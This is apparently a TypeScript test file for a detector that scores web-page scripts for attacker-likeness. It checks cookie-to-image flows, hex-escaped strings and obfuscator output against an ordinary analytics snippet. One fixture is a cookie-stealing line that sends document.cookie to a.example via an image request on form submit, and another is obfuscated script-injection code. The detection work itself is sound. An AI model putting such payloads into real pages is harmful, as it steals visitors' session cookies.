/** The fitted model: what it measures, how it explains itself, and that the shipped one tells the two kinds apart. */
import { describe, expect, test } from 'vitest';
import { loadPolicy } from '../../../../src/config/policy.ts';
import { configSchema } from '../../../../src/config/schema/schema.ts';
import { pageLikeness } from '../../../../src/core/scripts/model/page-likeness.ts';
import {
  type ScriptModel,
  scriptFeatureValues,
  scriptLikeness,
  scriptNumbers,
} from '../../../../src/core/scripts/model/script-model.ts';

const flagsOf = (code: string) =>
  [...(scriptNumbers(code)?.flags.keys() ?? [])].filter((name) => !name.startsWith('syntax'));
const model = (weights: Record<string, number>): ScriptModel => ({
  cuts: { 'escape-share': [0.1, 0.5] },
  intercept: 0,
  weights: new Map(Object.entries(weights)),
  ordinary: new Map([['reads typed', 0.2]]),
  slope: 2,
  shift: -1,
});
const thief = `document.querySelector('form').onsubmit = () => new Image().src = 'https://a.example/?' + document['cookie'];`;

describe('what is measured', () => {
  test('sources and sinks, however the name is written', () => {
    expect(flagsOf(thief)).toEqual(expect.arrayContaining(['reads cookie', 'does image', 'cookie → image']));
    expect(flagsOf(thief)).not.toContain('reads keys');
  });
  test('a statistic by its limits', () => {
    const cuts = { 'escape-share': [0.1, 0.5] };
    const share = (code: string) =>
      [...scriptFeatureValues(scriptNumbers(code) ?? { statistics: {}, flags: new Map() }, cuts).keys()].filter(
        (name) => name.startsWith('escape-share'),
      );
    expect(share(`var title = 'Cổng thông tin điện tử xã An Phú, trang chủ';`)).toEqual([]);
    expect(share(`var title = '\\x48\\x61\\x63\\x6b\\x65\\x64\\x20\\x62\\x79\\x20\\x58';`)).toEqual([
      'escape-share 0',
      'escape-share 1',
    ]);
  });
  test('nothing of what is too short, and of what is no code that it is none', () => {
    expect(scriptNumbers('go(1)')).toBeNull();
    expect(flagsOf(`this is ((( no code at all, whatever it may look like`)).toEqual(['unparsed']);
  });
  test('chains and lists of any length', () => {
    expect(
      scriptNumbers(`a${'.b()'.repeat(3_000)}; c = [${'1,'.repeat(40_000)}1]`)?.statistics['longest-list'],
    ).toBeGreaterThan(15);
  });
});

describe('what is said', () => {
  test('the strongest first, limits of one statistic together, and what is not there never', () => {
    const said = scriptLikeness(
      model({
        'cookie → image': 1,
        'escape-share 0': 0.4,
        'escape-share 1': 0.4,
        'reads typed': 3,
        'keys → socket': 5,
      }),
      `${thief}; var t = '\\x48\\x61\\x63\\x6b\\x65\\x64\\x48\\x61\\x63\\x6b\\x65\\x64\\x48\\x61\\x63\\x6b\\x65\\x64\\x48\\x61\\x63\\x6b\\x65\\x64\\x48\\x61\\x63\\x6b\\x65\\x64'`,
    );
    expect(said?.strongest).toEqual(['cookie → image', 'escape-share']);
    expect(said?.nats).toBeCloseTo(2 * 1.4 - 1);
  });
});

describe('several scripts', () => {
  test('are worth the mean of their likelihood ratios', () => {
    expect(pageLikeness([])).toBe(0);
    expect(pageLikeness([{ nats: 3 }])).toBeCloseTo(3);
    expect(pageLikeness([{ nats: 3 }, { nats: -20 }])).toBeCloseTo(3 - Math.log(2));
    expect(pageLikeness(Array.from({ length: 50 }, () => ({ nats: 1 })))).toBeCloseTo(1);
  });
});

test('the shipped model takes an obfuscator’s output for an attacker’s, and a plain counter for none', () => {
  const { scriptModel } = loadPolicy(configSchema.parse({}));
  const obfuscated = `var _0x4f2a=['\\x63\\x72\\x65\\x61\\x74\\x65','\\x73\\x63\\x72\\x69\\x70\\x74','\\x68\\x65\\x61\\x64'];(function(_0x1b,_0x2c){var _0x3d=function(_0x4e){while(--_0x4e){_0x1b['push'](_0x1b['shift']());}};_0x3d(++_0x2c);}(_0x4f2a,0x1a3));var _0x5a=function(_0x6b,_0x7c){_0x6b=_0x6b-0x0;var _0x8d=_0x4f2a[_0x6b];return _0x8d;};document[_0x5a('0x0')+'Element'](_0x5a('0x1'));`;
  const counter = `window.dataLayer = window.dataLayer || [];\nfunction gtag() {\n  dataLayer.push(arguments);\n}\ngtag('js', new Date());\ngtag('config', 'G-ANPHU');`;
  const nats = (code: string): number => scriptLikeness(scriptModel, code)?.nats ?? 0;
  expect(nats(obfuscated)).toBeGreaterThan(1);
  expect(nats(counter)).toBeLessThan(0);
});
